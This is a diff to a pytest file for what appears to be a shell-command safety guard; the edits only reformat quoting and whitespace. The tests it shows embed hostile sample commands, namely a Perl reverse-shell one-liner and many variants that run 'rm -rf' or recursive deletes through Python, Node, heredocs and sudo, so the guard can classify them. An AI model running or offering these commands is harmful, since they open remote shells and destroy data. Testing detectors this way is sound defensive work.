@@ -7,7 +7,6 @@ import codecs
 import shlex
 
 import pytest
-
 from flyball_sdk.guard.shell import UNKNOWN, Command, program
 
 WIPE = "rm -rf /srv/a"
@@ -94,7 +93,7 @@ REVERSE = (
 
 def test_a_socket_that_becomes_a_shell_has_a_name() -> None:
     assert ("reverse-shell",) in python(REVERSE)
-    perl = "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton(\"h\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");"
+    perl = 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");'
     assert ("reverse-shell",) in commands("perl -e " + shlex.quote(perl))
 
 
@@ -104,7 +103,7 @@ def test_a_socket_that_becomes_a_shell_has_a_name() -> None:
         f"python3 <<'E'\n{CALL}\nE", f"python3 - <<E\n{CALL}\nE", f'echo "{CALL}" | python3', f"cat > x.py <<'E'\n{CALL}\nE\npython3 x.py",
         "cat > x.py <<'E'\nimport sys, shutil\nshutil.rmtree(sys.argv[1])\nE\npython3 x.py /srv/a", f'python3.11 -Bc "{CALL}"',
         f"printf '#!/usr/bin/env python3\\nimport os\\nos.system(\"{WIPE}\")\\n' > t; chmod +x t; ./t", f'sudo -u x python -u -c "{CALL}"',
-        f"uv run python -c \"{CALL}\"", f"cat > x.py <<'E'\n{CALL}\nE\nuv run x.py", f"env -i python3 -c \"{CALL}\"",
+        f'uv run python -c "{CALL}"', f"cat > x.py <<'E'\n{CALL}\nE\nuv run x.py", f'env -i python3 -c "{CALL}"',
         f"node -e \"require('child_process').execSync('{WIPE}')\"", f"node -e \"const {{exec}}=require('child_process'); exec('{WIPE}')\"",
         "node -e \"require('child_process').spawn('rm',['-rf','/srv/a'])\"", "node -e \"require('fs').rmSync('/srv/a',{recursive:true})\"",
         f"node -p \"require('child_process').execSync('{WIPE}')\"", f"node <<'E'\nrequire('child_process').execSync(`{WIPE}`)\nE",
